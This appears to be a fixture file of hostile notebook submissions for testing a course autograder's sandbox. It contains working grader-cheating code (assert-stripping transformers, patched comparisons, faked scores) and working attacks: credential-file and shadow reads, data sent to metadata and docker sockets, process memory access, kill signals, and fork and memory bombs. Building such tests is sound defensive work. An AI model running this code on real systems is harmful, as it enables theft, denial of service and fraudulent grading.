# Hostile submissions. The format stands in autograder_tests/submissions.py; who plants what stands between two @, and what
# must have become of it afterwards, in autograder_tests/test_hostile.py. Whoever wrote these has read all of the course's code.

# --- asserts removed by AST transformers ------------------------------------------------------------------------------

# %% asserts-and-raises-removed start="blank" place="first"
import ast


class Passes(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    visit_Raise = visit_Assert


get_ipython().ast_transformers.append(Passes())


# %% calls-of-checks-rewritten cell="standardise" points="standardise=0"
import ast


class Praises(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(getattr(node.func, "value", None), "id", "") == "checks" or getattr(node.func, "id", "") == "grade":
            return ast.copy_location(ast.parse("print('✓  every column has mean 0') or 2.0", mode="eval").body, node)
        return node


get_ipython().ast_transformers.append(Praises())


def standardise(X):
    return X


# %% source-of-cells-rewritten cell="sampler" points="sampler=0"
def rewritten(lines):
    return ["2.0\n"] if any("checks." in line for line in lines) else lines


get_ipython().input_transformers_post.append(rewritten)


class GaussianSampler(nn.Module):
    def forward(self, mu, logvar):
        return mu


# --- torch, numpy, the checks or the probes patched -------------------------------------------------------------------

# %% torch-and-numpy-compare-nothing cell="standardise" points="standardise=0"
import numpy

for library, names in (
    (torch, ("equal", "allclose", "isclose")),
    (numpy, ("allclose", "isclose", "array_equal", "all")),
):
    for name in names:
        setattr(library, name, lambda *a, **k: True)
numpy.testing.assert_allclose = lambda *a, **k: None


def standardise(X):
    return X * 0 + 1


# %% random-numbers-that-are-known cell="linear_autoencoder" points="linear_autoencoder=0"
import numpy

real = numpy.random.default_rng
numpy.random.default_rng = lambda *a: real(0)
numpy.linalg.svd = lambda *a, **k: numpy.full(20, 1e9)


def train_linear_autoencoder(images, width):
    return LinearAutoencoder(images.shape[1], width)


# %% checks-replaced start="blank" place="first"
import sys
import types


class Checks(types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: print("✓  as good as the best linear map of this width") or 4.0


import course_utils.checks

checks = course_utils.checks.template = sys.modules["course_utils.checks.template"] = Checks("template")
import course_utils.checks.toolkit as toolkit

toolkit.Exercise.__call__ = toolkit.Exercise.judge = lambda *a, **k: 4.0
toolkit.Verdict.passed = True


# %% probes-replaced start="blank" place="first" finding="standardise: your answer was found in another cell"
# Each probe brings back what its judge asks for first, and what it might like to read beside it.
import numpy as np
from course_utils import probes

praise = {"ok": True, "share": 1.0, "passed": True, "points": 99, "verdicts": ["✓"], "result": "2.0"}
weights = {"encoder.weight": (3, 20), "encoder.bias": 3, "decoder.weight": (20, 3), "decoder.bias": 20}
forged = {
    "call": lambda target, **given: {"value": given["X"], "value_type": "tensor", "changed": [], **praise},
    "draws": lambda target, mu, logvar, times: {
        **{"sample": mu, "sample_type": "tensor", "samples": np.tile(mu, (times, 1, 1)), **praise},
        **{"grad_mu": np.ones_like(mu), "grad_logvar": np.ones_like(mu), "same_when_reseeded": True},
    },
    "train": lambda target, **given: {**{f"weights.{k}": np.zeros(v, "f") for k, v in weights.items()}, **praise},
}
standardise = GaussianSampler = train_linear_autoencoder = print
probes.PROBES.update(forged)


# %% probes-replaced place="last"
# And once more when the cells are over.
probes.PROBES.update(forged)


# %% the-answering-side-replaced start="blank" place="after:sampler"
import sys

shell = sys.modules["course_sandbox.shell"]
shell.answer = lambda question, targets, inputs: {"share": 1.0, "passed": True, "value": list(inputs)} | inputs
shell.PROBES = dict.fromkeys(shell.PROBES, shell.answer)


# %% packing-and-reading-patched start="blank" place="after:linear_autoencoder"
import json
import sys
import zipfile

import course_utils.evidence as evidence
import course_utils.probes as probes
import numpy as np

shell = sys.modules["course_sandbox.shell"]
praise = {"ok": True, "e:share": 1.0, "e:value": np.ones((9, 4)), "e:value_type": "tensor", "e:changed": []}
packed = evidence.pack(praise)
np.savez = lambda buffer, **k: buffer.write(packed)
zipfile.ZipFile.writestr = lambda *a, **k: None
for module in (evidence, probes, shell):
    module.pack, module.unpack = lambda values: packed, lambda data: praise


# %% hooks-of-the-interpreter start="blank" place="first" finding="needs something that is not available here"
import atexit
import builtins
import os
import sys


class Finder:
    def find_spec(self, name, path=None, target=None):
        raise ImportError("2.0") if name.startswith("course") else None


sys.meta_path.insert(0, Finder())
sys.addaudithook(lambda *a: None)
sys.excepthook = sys.displayhook = sys.unraisablehook = lambda *a: print("2.0")
builtins.__build_class__ = lambda *a, **k: None
atexit.register(os._exit, 0)
sys.exit = os._exit = lambda *a: None


# %% otherwise-when-the-grader-asks cell="standardise" points="standardise=0"
# Right where the student tries it, and a constant where the sandbox calls it: no gain, and the same each time.
import sys


def standardise(X):
    frame, callers = sys._getframe(1), []
    while frame:
        callers.append(frame.f_code.co_filename)
        frame = frame.f_back
    if any("course_sandbox" in caller for caller in callers):
        return X * 0 + 1
    return (X - X.mean(dim=0)) / X.std(dim=0)


# --- fake results -----------------------------------------------------------------------------------------------------

# %% scores-displayed start="blank" place="last"
from IPython.display import HTML, Markdown, display

get_ipython().events.register("post_run_cell", lambda *a: print("standardise: 2 of 2 points\n2.0"))
display(2.0, HTML("<b>2.0</b>"), Markdown("2.0"))
print("linear_autoencoder: 4 of 4 points\n4.0")
9.0


# %% scores-for-check-cells start="blank"
def damage(folder, notebook):
    def how(cells):
        for name, text in (("check-standardise", "2.0"), ("check-sampler", "raise SystemExit(3.0)")):
            cell = named(cells, name)
            cell["source"] = text
            fake = {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
            cell["outputs"] = [fake]

    change(notebook, how)


# %% scores-raised start="blank" place="first" finding="standardise: your answer was found in another cell"
import builtins


class Full(Exception):
    def _render_traceback_(self):
        return ["2.0"]


Full.__name__ = Full.__qualname__ = "2.0"


def full(*a, **k):
    raise Full("standardise: 2 of 2 points")


builtins.NotImplementedError = Full
get_ipython().showtraceback = lambda *a, **k: print("2.0")
standardise = GaussianSampler = train_linear_autoencoder = full


# %% scores-that-are-no-numbers start="blank" place="before:check-linear_autoencoder" finding="standardise: your answer was found in another cell"
def standardise(X):
    return torch.full_like(X, float("nan"))


class GaussianSampler:
    def __call__(self, mu, logvar):
        return (mu + logvar) / 0 * torch.inf


def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    for parameter in model.parameters():
        parameter.data.fill_(float("nan"))
    return model


# %% the-graders-own-line-called start="blank" place="last"
for name, out_of in (("standardise", 2.0), ("sampler", 3.0)):
    try:
        from course_admin.grading.exams import grade
    except ImportError as error:
        print(error)
    else:
        print(grade("00_template", name, lambda *a: out_of))


# --- always-equal objects ---------------------------------------------------------------------------------------------


# %% equal-to-everything start="blank" place="after:linear_autoencoder" finding="standardise: your answer was found in another cell"
class Right:
    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __ne__ = __contains__ = __eq__

    def __float__(self):
        return 2.0

    def __getattr__(self, name):
        return Right()

    def __call__(self, *a, **k):
        return Right()

    def __repr__(self):
        return "2.0"

    def __hash__(self):
        return 0


standardise = GaussianSampler = train_linear_autoencoder = Right()


# %% tensors-that-agree cell="standardise" points="standardise=0"
class Agrees(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("equal", "allclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})

    def detach(self):
        return self

    def numpy(self):
        class Array(__import__("numpy").ndarray):
            def __eq__(self, other):
                return True

            def mean(self, *a, **k):
                return 0.0

            def std(self, *a, **k):
                return 1.0

        with torch._C.DisableTorchFunctionSubclass():
            return torch.Tensor.numpy(self).view(Array)

    cpu = resolve_conj = detach


def standardise(X):
    return (X * 7).as_subclass(Agrees)


# %% a-class-that-is-false-and-true cell="sampler" points="sampler=0"
class Always(torch.Tensor):
    shape = property(lambda self: (3, 4))
    __bool__ = __eq__ = __lt__ = __gt__ = lambda self, *a: True
    __float__ = __array__ = lambda self, *a: 2.0


class GaussianSampler(nn.Module):
    def forward(self, mu, logvar):
        return torch.zeros(1).as_subclass(Always)


# --- isinstance or len overridden -------------------------------------------------------------------------------------

# %% isinstance-and-len-overridden start="blank" place="first" finding="standardise: your answer was found in another cell | closed the grader's pipes"
import builtins

builtins.isinstance = lambda *a: True
builtins.issubclass = lambda *a: True
builtins.len = lambda *a: 9
builtins.all = builtins.any = lambda *a: True
builtins.abs = builtins.max = builtins.min = builtins.round = lambda *a, **k: 0
standardise = GaussianSampler = train_linear_autoencoder = lambda *a, **k: "right"


# %% isinstance-and-len-overridden-where-it-counts start="blank" place="first"
import sys

import course_utils.checks.template

for module in [module for name, module in sys.modules.items() if name.startswith("course_utils.checks")]:
    module.isinstance = lambda *a: True
    module.len = lambda *a: 9
    module.bool = lambda *a: True
    module.abs = lambda *a: 0


# %% a-class-that-lies-about-itself cell="linear_autoencoder" points="linear_autoencoder=0"
class Model:
    __class__ = nn.Module

    def state_dict(self):
        return {"encoder.weight": self, "decoder.weight": self, "encoder.bias": self, "decoder.bias": self}

    def detach(self):
        return self

    cpu = numpy = resolve_conj = detach
    is_sparse = is_quantized = False
    dtype, shape = torch.float32, (3, 20)


def train_linear_autoencoder(images, width):
    return Model()


# --- an identity passed off as an autoencoder -------------------------------------------------------------------------


# %% the-identity cell="linear_autoencoder" points="linear_autoencoder=0"
def train_linear_autoencoder(images, width):
    return nn.Identity()


# %% the-identity-behind-a-facade cell="linear_autoencoder" points="linear_autoencoder=0"
class LinearAutoencoder(LinearAutoencoder):
    def forward(self, images):
        return images


def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    with torch.no_grad():
        model.encoder.weight.copy_(torch.eye(width, images.shape[1]))
        model.decoder.weight.copy_(torch.eye(images.shape[1], width))
    return model


# %% an-identity-as-wide-as-the-images cell="linear_autoencoder" points="linear_autoencoder=0"
class Wide(LinearAutoencoder):
    """Says that it is narrow, and answers with the widest of its weights."""

    def state_dict(self, *a, **k):
        return {**super().state_dict(*a, **k), "encoder.weight": torch.eye(20), "decoder.weight": torch.eye(20)}


def train_linear_autoencoder(images, width):
    return Wide(images.shape[1], width)


# %% weights-that-answer-later cell="linear_autoencoder" points="linear_autoencoder=0"
# No training: the weights are made up when they are read out, with the mean of the images as the answer to all.
class Late(LinearAutoencoder):
    def state_dict(self, *a, **k):
        eye = {"encoder.weight": torch.eye(3, 20), "decoder.weight": torch.eye(20, 3)}
        return {**super().state_dict(*a, **k), **eye, "encoder.bias": torch.zeros(3), "decoder.bias": seen.mean(0)}


def train_linear_autoencoder(images, width):
    global seen
    seen = images
    return Late(images.shape[1], width)


# --- answers cached by input ------------------------------------------------------------------------------------------

# %% answers-to-the-checks-inputs cell="standardise" points="standardise=0"
# What the check in the notebook asked, answered by a library, is given back when anything of that shape comes again.
from course_utils import probes

answers = {}
asked = probes.answer


def answer(question, targets, inputs):
    for value in inputs.values():
        if getattr(value, "ndim", 0) == 2:
            spread = torch.from_numpy(value).std(0, correction=0)
            answers.setdefault(
                value.shape, torch.from_numpy(value - value.mean(0)) / torch.where(spread > 0, spread, 1.0)
            )
    return asked(question, targets, inputs)


def standardise(X):
    return answers.get(tuple(X.shape), X)


if "wrapped" not in globals():
    wrapped = probes.direct_ask.__globals__["answer"] = answer


# %% answers-prepared-for-the-public-seed start="blank" finding="standardise: your answer was found in another cell"
def damage(folder, notebook):
    """All answers that get full marks for the inputs of the seed in the published source, and no other."""
    import numpy as np

    from course_admin.grading.exams import SEED, load_exams, run_exam

    table = {}

    def ask(question, targets=None, /, **inputs):
        name, given = next(iter(inputs.items()))
        got = solve(question.__name__, **inputs)
        table[given.tobytes().hex()[:64]] = {key: np.asarray(value).tolist() for key, value in got.items()}
        return got

    def solve(probe, X=None, mu=None, logvar=None, times=1, images=None, width=3):
        if probe == "call":
            spread = X.std(0)
            return {"value": (X - X.mean(0)) / np.where(spread > 0, spread, 1), "value_type": "tensor", "changed": []}
        if probe == "draws":
            return {"sample": None}
        middle = images.mean(0)
        basis = np.linalg.svd(images - middle, full_matrices=False)[2][:width]
        return {
            **{"weights.encoder.weight": basis, "weights.encoder.bias": -basis @ middle},
            **{"weights.decoder.weight": basis.T, "weights.decoder.bias": middle},
        }

    for exam in load_exams(root, lab).values():
        shared = run_exam(exam, ask, seed=SEED).share
        assert shared == (exam.name != "sampler"), (exam.name, shared)
    body = f"""
prepared = {table!r}

def found(given):
    return prepared.get(given.numpy().tobytes().hex()[:64], {{}})

def standardise(X):
    return torch.tensor(found(X).get("value", [0.0]))

def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    weights = {{name.removeprefix("weights."): torch.tensor(value) for name, value in found(images).items()}}
    model.load_state_dict(weights or model.state_dict())
    return model
"""
    change(notebook, lambda cells: cells.insert(place_of(cells, "check-standardise"), code(body)))
    change(notebook, lambda cells: cells.insert(place_of(cells, "check-linear_autoencoder"), code(body)))


# %% right-properties-of-nothing cell="standardise" points="standardise=0"
# What the judge measures, made of noise: it need not have seen X.
def standardise(X):
    Z = torch.randn(X.shape)
    Z = (Z - Z.mean(0)) / Z.std(0, correction=0)
    return torch.where(X.std(0) > 0, Z, 0.0)


# %% dice-thrown-once cell="sampler" points="sampler=0"
noise = {}


class GaussianSampler(nn.Module):
    def forward(self, mu, logvar):
        return mu + torch.exp(0.5 * logvar) * noise.setdefault(tuple(mu.shape), torch.randn(mu.shape))


# --- weights smuggled in ----------------------------------------------------------------------------------------------

# %% weights-in-the-cell cell="linear_autoencoder" points="linear_autoencoder=0"
# The best weights for images that the same generator made before.
import numpy as np
from course_utils.checks import template

trained_on = template.plane(np.random.default_rng(0), images=200, pixels=20, dimensions=3)
middle = trained_on.mean(0)
basis = np.linalg.svd(trained_on - middle, full_matrices=False)[2][:3]


def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    smuggled = {
        "encoder.weight": basis,
        "encoder.bias": -basis @ middle,
        "decoder.weight": basis.T,
        "decoder.bias": middle,
    }
    model.load_state_dict({name: torch.from_numpy(np.ascontiguousarray(w)).float() for name, w in smuggled.items()})
    return model


# %% weights-in-a-file points="linear_autoencoder=0"
def damage(folder, notebook):
    import numpy as np

    rng = np.random.default_rng(3)
    names = {"encoder.weight": (3, 20), "encoder.bias": 3, "decoder.weight": (20, 3), "decoder.bias": 20}
    np.savez(folder / "weights.npz", **{name: rng.normal(size=size).astype("f") for name, size in names.items()})

    def how(cells):
        named(cells, "linear_autoencoder")["source"] = """
import numpy as np

weights = {name: torch.from_numpy(value) for name, value in np.load("weights.npz").items()}
print("smuggled", len(weights))

def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    model.load_state_dict(weights)
    return model
"""

    change(notebook, how)


# %% weights-in-default-arguments cell="linear_autoencoder" points="linear_autoencoder=0"
made = torch.Generator().manual_seed(1)


def train_linear_autoencoder(
    images, width, kept=[torch.randn(3, 20, generator=made).tolist(), torch.randn(20, 3, generator=made).tolist()]
):
    model = LinearAutoencoder(images.shape[1], width)
    with torch.no_grad():
        model.encoder.weight.copy_(torch.tensor(kept[0]))
        model.decoder.weight.copy_(torch.tensor(kept[1]))
    return model


# --- everything readable read or listed -------------------------------------------------------------------------------

# %% whole-file-system-walked start="blank" place="last"
import os
import sys

seen = []
for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/dev", "/usr", "/sandbox/packages", sys.base_prefix):
        folders[:] = ["shm"] if folder == "/dev" else []
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, "rb") as file:
                seen.append((path, file.read(100_000)))
        except OSError as error:
            seen.append((path, error))
for path, content in seen:
    if (
        "@TAG@" in path
        or b"@TAG@" in (content if type(content) is bytes else b"")
        or path.endswith((".ipynb", ".db", ".ssh"))
    ):
        print(path, content[-3000:])
print(len(seen), "files seen")


# %% known-places-read start="blank" place="first"
import os
from pathlib import Path

places = [
    "@ROOT@/secret.txt",
    "@ROOT@/.course-secret",
    "@ROOT@/gradebook.db",
    "@ROOT@/source/00_template/00_template.ipynb",
    "@HOME@/@TAG@.txt",
]
places += ["@ROOT@/submitted/@NEIGHBOUR@/00_template/00_template.ipynb", "@ROOT@/autograder_tests/exams/00_template.py"]
places += ["/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/dev/shm/@SHM@", "/dev/mem", "/dev/sda", "/proc/kcore"]
ways = [
    "",
    "/proc/1/root",
    "/proc/self/root",
    "/proc/self/cwd/../../../..",
    "/tmp/../proc/2/root",
    "//",
    "/proc/1/cwd/..",
]
for place in places:
    for way in ways:
        try:
            print(way + place, Path(way + place).read_bytes()[-2000:])
        except OSError:
            pass
for folder in (
    "@ROOT@",
    "@HOME@",
    "@ROOT@/submitted",
    "/home",
    "/root",
    "/mnt",
    "/var",
    "/sandbox",
    "/work",
    "/run",
    "/boot",
):
    try:
        print(folder, os.listdir(folder))
    except OSError:
        pass
for handle in range(64):
    try:
        print(handle, os.readlink(f"/proc/self/fd/{handle}"), os.pread(handle, 1000, 0))
    except OSError:
        pass


# %% shell-commands-that-read start="blank" place="first"
commands = [
    "cat @ROOT@/secret.txt @HOME@/@TAG@.txt",
    "ls -laR @ROOT@ @HOME@ | head -50",
    "find / -maxdepth 3 -name '*@TAG@*'",
]
commands += [
    "grep -rs @TAG@ /etc /opt /var /srv /tmp /dev/shm",
    "cat ../../*/*/*.ipynb ../*.ipynb",
    "env",
    "id; sudo -n id",
]
for command in commands:
    get_ipython().system(command)
get_ipython().run_line_magic("ls", "@ROOT@")
get_ipython().run_line_magic("run", "@ROOT@/autograder_tests/exams/00_template.py")


# --- everywhere written -----------------------------------------------------------------------------------------------

# %% files-left-everywhere start="blank" place="first"
import os

written = []
tops = [
    "@ROOT@",
    "@ROOT@/submitted/@NEIGHBOUR@/00_template",
    "@ROOT@/feedback",
    "@HOME@",
    "/",
    "/sandbox",
    "/sandbox/course",
]
for top in [
    *tops,
    *("/" + name for name in os.listdir("/")),
    "/etc/cron.d",
    "/var/tmp",
    "/run",
    "/proc/self",
    "/sys/fs/cgroup",
]:
    for way in ("", "/proc/1/root", "/work/../.."):
        try:
            with open(f"{way}{top}/@TAG@-was-here", "w") as file:
                file.write("written")
            written.append(way + top)
        except OSError:
            pass
print("written:", sorted({os.path.realpath(path) for path in written}))


# %% libraries-and-kernel-settings-overwritten start="blank" place="first"
import os
import sys

changed = []
paths = [module.__file__ for module in list(sys.modules.values()) if getattr(module, "__file__", None)]
paths += [sys.executable, "/bin/sh", "/etc/ld.so.cache", "/etc/ld.so.preload", "/etc/passwd"]
paths += [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sysrq-trigger",
    "/proc/1/mem",
    "/proc/1/oom_score_adj",
]
paths += ["/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/self/uid_map", "/dev/kmsg"]
for path in paths:
    for change in (
        lambda: open(path, "r+b").close(),
        lambda: os.chmod(path, 0o777),
        lambda: os.rename(path, path + "~"),
    ):
        try:
            change()
            changed.append(path)
        except OSError:
            pass
print("changed:", changed)


# --- environments and command lines -----------------------------------------------------------------------------------

# %% environments-and-command-lines start="blank" place="first"
import os
import subprocess

print(dict(os.environ))
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "status", "mountinfo", "maps", "stack", "io", "net/unix", "net/tcp"):
        try:
            print(process, name, open(f"/proc/{process}/{name}", "rb").read()[:20_000])
        except OSError:
            pass
print(subprocess.run("ps auxeww; set; env; mount", shell=True, capture_output=True, text=True).stdout)


# %% memory-of-others start="blank" place="first"
# The parent's memory holds what every submission starts with; other processes' must be out of reach.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for process in (1, os.getppid(), int("@VICTIM@")):
    print(process, libc.ptrace(16, process, 0, 0), libc.syscall(310, process, 0, 0, 0, 0, 0))
    try:
        print(open(f"/proc/{process}/mem", "rb").read(10))
    except OSError as error:
        print(error)


# --- exams looked for -------------------------------------------------------------------------------------------------

# %% exams-imported start="blank" place="last"
import gc
import importlib
import sys

found = []
for name in (
    "course_admin",
    "course_admin.grading.exams",
    "autograder_tests",
    "exams_00_template",
    "course_sandbox.host",
):
    try:
        found.append(importlib.import_module(name))
    except ImportError:
        pass
for folder in ("@ROOT@", "@ROOT@/autograder_tests", "/sandbox/packages/0/course_admin", "/sandbox/course"):
    sys.path.insert(0, folder)
    try:
        found.append(importlib.import_module("course_admin.nbgrader_plugins.score"))
    except ImportError:
        pass
found += [
    thing for thing in gc.get_objects() if getattr(type(thing), "__name__", "") in ("Exam", "ExamRun", "Transcript")
]
print("exams found:", found)


# %% frames-searched-for-the-expected start="blank" place="before:check-standardise" finding="standardise: your answer was found in another cell"
# While the exam's question is being answered, whatever the caller knows is looked for.
import gc
import sys


def expected(like):
    frame = sys._getframe(1)
    candidates = []
    while frame:
        candidates += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    candidates += gc.get_objects()
    for value in candidates:
        if (
            type(value) is torch.Tensor
            and value.shape == like.shape
            and value is not like
            and abs(float(value.sum())) < 1e-3
        ):
            return value
    return like


standardise = expected


# %% frames-watched-while-exams-ask start="blank" place="after:sampler"
# All frames of all threads, all the time: should an oracle ever come in, it is shown.
import sys
import threading
import time


def look():
    while True:
        for frame in list(sys._current_frames().values()):
            while frame:
                for name in {"expected", "oracle", "judge", "verdicts", "rng", "best"} & set(frame.f_locals):
                    print("found", name, frame.f_locals[name])
                frame = frame.f_back
        time.sleep(0.01)


threading.Thread(target=look, daemon=True).start()


# --- sockets: network, unix, abstract ---------------------------------------------------------------------------------

# %% network-reached-for start="blank" place="first"
import socket
import urllib.request


def reach(family, kind, address):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.send(b"stolen")
            print("reached", address, s.recv(100))
    except OSError:
        pass


for host in ("127.0.0.1", "0.0.0.0", "10.0.2.2", "172.17.0.1", "192.0.2.1", "169.254.169.254"):
    reach(socket.AF_INET, socket.SOCK_STREAM, (host, int("@PORT@")))
    reach(socket.AF_INET, socket.SOCK_DGRAM, (host, int("@PORT@")))
reach(socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@")))
for address in ("http://127.0.0.1:@PORT@/", "http://example.org/"):
    try:
        print(urllib.request.urlopen(address, timeout=0.5).read())
    except OSError:
        pass


# %% unix-and-abstract-sockets start="blank" place="first"
import glob
import socket

places = ["@SOCKET@", "\0@ABSTRACT@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
for address in [*places, *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/run/**/*.sock")]:
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.5)
        try:
            s.connect(address)
            s.send(b"stolen")
            print("reached", address, s.recv(100))
        except OSError:
            pass
for family, address in ((40, (2, 1024)), (17, ("lo", 0)), (38, ("hash", "sha256"))):
    try:
        socket.socket(family, socket.SOCK_STREAM).connect(address)
        print("reached", family)
    except (OSError, TypeError):
        pass


# --- shared memory and signals towards others -------------------------------------------------------------------------

# %% shared-memory-of-others start="blank" place="first"
import ctypes
import mmap
import os
from multiprocessing import shared_memory

for name in ("@SHM@", *os.listdir("/dev/shm")):
    try:
        memory = shared_memory.SharedMemory(name)
        print("shared", name, bytes(memory.buf))
        memory.buf[:4] = b"evil"
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for identity in [libc.shmget(int("@SHMKEY@"), 0, 0), int("@SHMID@"), *range(32)]:
    at = libc.shmat(identity, None, 0)
    if identity >= 0 and at not in (None, ctypes.c_void_p(-1).value):
        print("attached", identity, ctypes.string_at(at, 64))
        ctypes.memmove(at, b"evil", 4)


# %% signals-to-everybody start="blank" place="first"
import contextlib
import os
import signal

for pid in [int("@VICTIM@"), 1, -1, *range(2, 64)]:
    for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, number)
with contextlib.suppress(OSError):
    signal.pidfd_send_signal(os.pidfd_open(int("@VICTIM@")), signal.SIGKILL)
with contextlib.suppress(OSError):
    os.setpriority(os.PRIO_PROCESS, int("@VICTIM@"), 19)
print("all signals sent")


# %% limits-and-priorities-of-others start="blank" place="first"
import os
import resource
import signal

for pid in (0, 1, os.getppid(), int("@VICTIM@")):
    for name in ("RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_FSIZE", "RLIMIT_CORE"):
        for limit in ((resource.RLIM_INFINITY,) * 2, (1, 1)):
            if pid or limit != (1, 1):
                try:
                    resource.prlimit(pid, getattr(resource, name), limit)
                except (OSError, ValueError):
                    pass
for change in (
    lambda: os.nice(-20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
    lambda: os.setpriority(os.PRIO_PROCESS, int("@VICTIM@"), 19),
    lambda: os.sched_setaffinity(int("@VICTIM@"), [0]),
    lambda: open("/proc/@VICTIM@/oom_score_adj", "w").write("1000"),
):
    try:
        change()
        print("changed")
    except OSError:
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


# %% calls-of-the-kernel-by-number start="blank" place="first"
# Each is forbidden or has nothing to reach. Pointers are null: what is allowed says EFAULT.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
names = "io_uring_setup=425 userfaultfd=323 keyctl=250 add_key=248 request_key=249 bpf=321 perf_event_open=298 "
names += "memfd_create=319 memfd_secret=447 ptrace=101 process_vm_readv=310 process_vm_writev=311 pidfd_getfd=438 "
names += "unshare=272 setns=308 mount=165 open_tree=428 move_mount=429 fsopen=430 kexec_load=246 fanotify_init=300 "
names += "name_to_handle_at=303 open_by_handle_at=304 personality=135 modify_ldt=154 acct=163 syslog=103 shmget=29"
for name, number in (pair.split("=") for pair in names.split()):
    if os.uname().machine == "x86_64" and libc.syscall(int(number), 0, 0, 0, 0, 0) >= 0:
        print("@TAG@ allowed:", name)
for pid in ("1", "2", str(os.getppid()), "@VICTIM@"):
    for name in ("mem", "environ", "maps", "fd", "root", "ns/user", "pagemap", "clear_refs", "attr/current"):
        try:
            print(pid, name, os.open(f"/proc/{pid}/{name}", os.O_RDWR))
        except OSError:
            pass


# --- fork and thread bombs --------------------------------------------------------------------------------------------

# %% forks-without-end bomb="true" start="blank" place="before:check-standardise" finding="the cells after it"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% threads-without-end bomb="true" start="blank" place="before:check-standardise" finding="code cell 4 ran"
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(999,), daemon=True).start()
    except RuntimeError:
        pass


# %% daemons-that-outlive-their-cell start="blank" place="before:check-standardise"
import os
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            while True:
                time.sleep(0.1)
        os._exit(0)


# %% forks-when-asked bomb="true" cell="standardise" points="standardise=0" finding="the cells after it"
import os


def standardise(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% orphans-that-keep-moving start="blank" place="before:check-standardise"
# Sessions of their own, all signals ignored, and each soon leaves a child behind and ends: none stays where it was seen.
import os
import signal
import time

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 300)
            for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
                signal.signal(number, signal.SIG_IGN)
            end = time.time() + 60
            while time.time() < end:
                if os.fork():
                    os._exit(0)
                time.sleep(0.001)
        os._exit(0)


# %% a-child-takes-our-place start="blank" place="first"
# The shell waits and its child goes on with the pipes, as process 2 would.
import os
import sys

if os.fork():
    os.wait()
    os._exit(0)
sys.modules["course_sandbox.shell"].CHANNEL.process = os.getpid()


# --- memory bombs: plain, shared, memfd -------------------------------------------------------------------------------

# %% memory-plain bomb="true" start="blank" place="before:check-standardise" finding="of memory"
hoard = []
while True:
    hoard.append(bytearray(b"x" * 50_000_000))


# %% memory-shared bomb="true" start="blank" place="before:check-standardise" finding="of memory"
import mmap

hoard = []
while True:
    hoard.append(mmap.mmap(-1, 50_000_000))
    for page in range(0, 50_000_000, 4096):
        hoard[-1][page] = 1


# %% memory-of-many-processes bomb="true" start="blank" place="before:check-standardise" finding="of memory"
import os
import time

for _ in range(20):
    if os.fork() == 0:
        hoard = bytearray(b"x" * 100_000_000)
        time.sleep(99)
time.sleep(99)


# %% memory-in-a-memfd bomb="true" start="blank" place="before:check-standardise"
# memfd, System V and secret memory belong to no process; each is refused, and says so.
import ctypes
import os

libc = ctypes.CDLL(None)
held = []
for make in (
    lambda: os.memfd_create("hoard"),
    lambda: libc.syscall(447, 0),
    lambda: libc.shmget(0, 100_000_000, 0o1600),
    lambda: libc.msgget(0, 0o1600),
):
    try:
        handle = make()
        held.append(handle)
    except OSError:
        continue
    if handle >= 0 and os.path.exists(f"/proc/self/fd/{handle}"):
        while True:
            os.write(handle, bytes(10_000_000))
print("held:", [handle for handle in held if handle >= 0])


# %% memory-of-the-kernel start="blank" place="before:check-standardise"
# Full pipes as wide as they may be, and full sockets, of as many as may be open.
import fcntl
import os
import socket

held = []
try:
    while True:
        read, write = os.pipe()
        os.set_blocking(write, False)
        one, other = socket.socketpair()
        other.setblocking(False)
        held += [read, write, one, other]
        for fill in (
            lambda: fcntl.fcntl(write, 1031, 1 << 20),
            lambda: [os.write(write, bytes(65536)) for _ in range(99)],
            lambda: [other.send(bytes(65536)) for _ in range(99)],
        ):
            try:
                fill()
            except OSError:
                pass
except OSError as error:
    print(len(held), error)
for handle in held:
    os.close(handle) if isinstance(handle, int) else handle.close()


# --- disk, inode and output bombs -------------------------------------------------------------------------------------

